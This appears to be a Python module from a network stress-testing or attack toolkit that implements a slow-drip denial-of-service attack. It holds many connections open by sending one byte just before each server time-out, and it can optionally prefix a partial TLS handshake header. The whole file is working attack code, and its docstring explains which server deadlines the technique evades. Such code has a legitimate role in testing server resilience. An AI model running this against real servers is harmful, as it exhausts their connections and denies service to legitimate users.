"""One byte just before each time-out, so that it begins again. An event is such a byte.

A server that resets its deadline at each byte is held for one byte per deadline. What ends a connection of
this kind is a deadline for something whole: a line (``read_stall_timeout``), a handshake, the handler's
time; an idle time-out never does. With ``header`` the first bytes are a TLS record's header, so that what
follows belongs to a handshake.
"""

from __future__ import annotations

import time
from collections.abc import Iterator

from .attacker import Target

_HELLO_BEGINS = bytes.fromhex("1603010200 010001fc 0303".replace(" ", ""))


def attack(
    target: Target,
    connections: int,
    deadline: float,
    header: bool = False,
    late: bool = False,
    share: float = 0.8,
) -> Iterator[tuple[int, int]]:
    """Send a byte on each connection after each `share` of `deadline`, until all connections are cut.

    `late` makes the connections when the attack begins, where the deadline would pass before it.
    """
    if late:
        yield 0, 0
    socks = [target.connect() for _ in range(connections)]
    for sock in socks:
        sock.setblocking(False)
        if header:
            sock.sendall(_HELLO_BEGINS)
    if not late:
        yield 0, 0
    due = time.monotonic()
    while socks:
        for sock in tuple(socks):
            try:
                sock.send(b"x")
                _drop_reply(sock)
            except OSError:
                socks.remove(sock)
            else:
                yield 1, 1
        due += share * deadline
        while time.monotonic() < due:
            time.sleep(0.01)
            yield 0, 0  # an attack that is bounded by time may end here


def _drop_reply(sock: object) -> None:
    try:
        if not sock.recv(4096):  # type: ignore[attr-defined]
            raise ConnectionResetError
    except BlockingIOError:
        pass
